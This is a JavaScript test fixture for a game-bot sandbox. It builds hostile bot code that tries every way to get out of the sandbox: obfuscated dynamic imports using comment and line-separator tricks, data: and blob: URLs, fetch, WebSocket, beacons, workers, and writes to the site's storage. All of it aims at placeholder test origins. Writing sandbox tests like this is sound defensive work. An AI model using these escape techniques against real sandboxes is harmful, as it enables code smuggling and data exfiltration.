// network.js — bots that try to get out of the sandbox: every way to reach another origin, the
// site's own files or its storage that a bot could write. Shared by the Chromium test
// (tests/web/botlab-network.test.js) and the Node test (tests/botlab/sandbox.test.js).
//
// A bot makes its attempts in onGameStart (before any move; the match goes on meanwhile) and
// then plays the first empty cell of tic-tac-toe: trying is not a fault, so a bot that tries is
// never forfeited. Each attempt logs one line, "<name>: <what happened>" (at once, or when its
// promise settles), so a test can check that it ran.
// A URL a bot asks for ends in "?from-bot" (other origin: OTHER, the site: SITE); the tests count
// what reaches either server.
'use strict';

// The attempts, as bot source (each an expression statement using attempt(name, fn)).
const ATTEMPTS = [
  // dynamic import, in every form the grammar allows
  ['import', 'attempt("import", function () { return import(OTHER + "plain.js?from-bot"); });'],
  ['import with a space', 'attempt("import with a space", function () { return import (OTHER + "space.js?from-bot"); });'],
  ['import with a block comment', 'attempt("import with a block comment", function () { return import/* a */(OTHER + "block.js?from-bot"); });'],
  ['import with a line comment', 'attempt("import with a line comment", function () { return import// a\n(OTHER + "line.js?from-bot"); });'],
  ['import with a comment ended by U+2028', 'attempt("import with a comment ended by U+2028", function () { return import// a\u2028(OTHER + "ls.js?from-bot"); });'],
  ['import with an HTML-like comment', 'attempt("import with an HTML-like comment", function () { return import<!-- a\n(OTHER + "html.js?from-bot"); });'],
  ['import of a template string', 'attempt("import of a template string", function () { return import(`${OTHER}template.js?from-bot`); });'],
  ['import with attributes', 'attempt("import with attributes", function () { return import(OTHER + "data.json?from-bot", { with: { type: "json" } }); });'],
  ['import of a site file', 'attempt("import of a site file", function () { return import(SITE + "miniapp.js?from-bot"); });'],
  ['import of a data: URL', 'attempt("import of a data: URL", function () { return import("data:text/javascript,fetch(" + JSON.stringify(OTHER + "data-url?from-bot") + ")"); });'],
  ['import of a blob: URL', 'attempt("import of a blob: URL", function () { return import(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(OTHER + "blob-import?from-bot") + ")"], { type: "text/javascript" }))); });'],
  // requests
  ['fetch', 'attempt("fetch", function () { return fetch(OTHER + "fetch?from-bot", { mode: "no-cors" }); });'],
  ['fetch of a site file', 'attempt("fetch of a site file", function () { return fetch(SITE + "index.html?from-bot"); });'],
  ['XMLHttpRequest', 'attempt("XMLHttpRequest", function () { var x = new XMLHttpRequest(); x.open("GET", OTHER + "xhr?from-bot", false); x.send(); return x.status; });'],
  ['WebSocket', 'attempt("WebSocket", function () { return new Promise(function (ok, no) { var w = new WebSocket(OTHER.replace("http", "ws") + "ws?from-bot"); w.onopen = ok; w.onerror = function () { no(new Error("no connection")); }; }); });'],
  ['EventSource', 'attempt("EventSource", function () { return new Promise(function (ok, no) { var s = new EventSource(OTHER + "events?from-bot"); s.onopen = ok; s.onerror = function () { s.close(); no(new Error("no connection")); }; }); });'],
  ['a beacon', 'attempt("a beacon", function () { return navigator.sendBeacon(OTHER + "beacon?from-bot", "x"); });'],
  ['WebAssembly.compileStreaming', 'attempt("WebAssembly.compileStreaming", function () { return WebAssembly.compileStreaming(fetch(OTHER + "module.wasm?from-bot")); });'],
  ['a font', 'attempt("a font", function () { return new FontFace("x", "url(" + OTHER + "font.woff2?from-bot)").load(); });'],
  // scripts and workers
  ['importScripts', 'attempt("importScripts", function () { importScripts(OTHER + "script.js?from-bot"); });'],
  ['importScripts of a site file', 'attempt("importScripts of a site file", function () { importScripts(SITE + "botlab/games.js?from-bot"); });'],
  ['a worker from another origin', 'attempt("a worker from another origin", function () { return new Worker(OTHER + "worker.js?from-bot"); });'],
  ['a worker from the site', 'attempt("a worker from the site", function () { return new Worker(SITE + "engine-worker.js?from-bot"); });'],
  ['a module worker', 'attempt("a module worker", function () { return new Worker(OTHER + "module-worker.js?from-bot", { type: "module" }); });'],
  ['a blob: worker that fetches', 'attempt("a blob: worker that fetches", function () { return new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(OTHER + "nested?from-bot") + "); importScripts(" + JSON.stringify(OTHER + "nested.js?from-bot") + ")"], { type: "text/javascript" }))); });'],
  // the site's storage
  ['indexedDB', 'attempt("indexedDB", function () { return new Promise(function (ok, no) { var r = indexedDB.open("from-bot"); r.onsuccess = ok; r.onerror = function () { no(r.error); }; }); });'],
  ['caches', 'attempt("caches", function () { return caches.open("from-bot"); });'],
  ['storage estimate', 'attempt("storage estimate", function () { return navigator.storage.estimate(); });'],
  ['a broadcast to the site', 'attempt("a broadcast to the site", function () { new BroadcastChannel("miniarena").postMessage("from-bot"); });']
];

// The bot that makes the attempts named (one, or several one after the other), with OTHER
// (another origin) and SITE (the site's root), both ending in '/'.
function hostileBot(names, { other, site }) {
  const code = [].concat(names).map((name) => {
    const found = ATTEMPTS.find(([n]) => n === name);
    if (!found) throw new Error('no attempt named ' + name);
    return '  ' + found[1];
  });
  return [
    'var OTHER = ' + JSON.stringify(other) + ', SITE = ' + JSON.stringify(site) + ';',
    'function attempt(name, fn) {',
    '  var result;',
    '  try { result = fn(); } catch (e) { console.log(name + ": threw " + (e && e.name)); return; }',
    '  if (result && typeof result.then === "function") {',
    '    result.then(function () { console.log(name + ": resolved"); }, function (e) { console.log(name + ": rejected " + (e && e.name)); });',
    '  } else {',
    '    console.log(name + ": returned");',
    '  }',
    '}',
    'function onGameStart() {',
    ...code,
    '}',
    'function onTurnStart(data) {',
    '  for (var r = 0; r < 3; r++) for (var c = 0; c < 3; c++) if (data.board[r][c] === 0) return [r, c];',
    '}',
    ''
  ].join('\n');
}

const NAMES = ATTEMPTS.map(([name]) => name);

module.exports = { hostileBot, NAMES };
